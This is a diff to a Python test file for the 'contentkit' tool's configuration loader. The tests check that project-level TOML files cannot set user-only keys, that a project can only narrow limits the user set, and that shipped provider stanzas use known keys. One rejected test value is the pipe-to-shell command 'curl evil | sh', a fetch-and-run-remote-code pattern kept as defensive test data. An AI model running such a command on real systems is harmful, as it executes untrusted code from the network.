@@ -150,6 +150,7 @@ def test_a_wrong_setting_is_one_sentence_with_the_files_name(
         ("[providers.x]\nprobe = true", "probe is not for a project"),
         ("[providers.transformers]\ntrust_remote_code = true", "trust_remote_code is not for a project"),
         ("[providers.x]\nstart = 'curl evil | sh'", "start is not for a project"),
+        ("allowed_licences = ['any']", "allowed_licences is not for a project"),
         ("history_path = '/tmp/x'", "history_path is not for a project"),
         ("cache_path = '/tmp/x'", "cache_path is not for a project"),
         ("catalogue_path = '/tmp/x'", "catalogue_path is not for a project"),
@@ -188,15 +189,13 @@ def test_a_projects_own_host_gets_no_key_and_its_loopback_address_does(project: 
 
 
 def test_a_project_can_only_narrow_what_the_user_allows(project: Path, user_file: Path) -> None:
-    user_file.write_text("max_cost = 0.5\nhistory = false\nallowed_licences = ['mit', 'apache-2.0']\n")
-    say(project, "max_cost = 100\nhistory = true\nallowed_licences = ['apache-2.0', 'gpl-3.0']\n")
+    user_file.write_text("max_cost = 0.5\nhistory = false\n")
+    say(project, "max_cost = 100\nhistory = true\n")
     config = load(project, {})
-    assert (config.max_cost, config.history, config.allowed_licences) == (0.5, False, ("apache-2.0",))
+    assert (config.max_cost, config.history) == (0.5, False)
     assert config.origins["max_cost"] == str(user_file)
     say(project, "max_cost = 0.1\n")
     assert load(project, {}).max_cost == 0.1
-    say(project, "allowed_licences = ['gpl-3.0']\n")
-    assert "nothing in common" in refused(project)
 
 
 @pytest.mark.parametrize(
@@ -231,19 +230,11 @@ def test_variables_are_typed_and_a_misspelt_one_is_a_notice(project: Path) -> No
     assert "does not exist" in refused(project, {"CONTENTKIT_CONFIG": str(project / "no.toml")})
 
 
-def test_every_setting_that_a_dialect_reads_can_be_said() -> None:
-    import re
-    import tomllib
-
+def test_every_key_of_the_shipped_stanzas_can_be_said() -> None:
     from contentkit.kit.settings import STANZA
+    from contentkit.kit.stanzas import built_in
 
-    folder = Path(__file__).parents[2] / "contentkit" / "providers"
-    code = "".join(path.read_text(encoding="utf-8") for path in folder.glob("*.py"))
-    read = set(re.findall(r"settings(?:\.get\(|\[)[\"'](\w+)", code))
-    assert len(read) > 10
-    assert read - STANZA.keys() == set()
-    shipped = tomllib.loads((folder / "hosts.toml").read_text(encoding="utf-8"))
-    assert {key for stanza in shipped.values() for key in stanza} - STANZA.keys() == set()
+    assert {key for stanza in built_in().values() for key in stanza} - STANZA.keys() == set()
 
 
 def endpoint_of(config: Config, name: str) -> str:
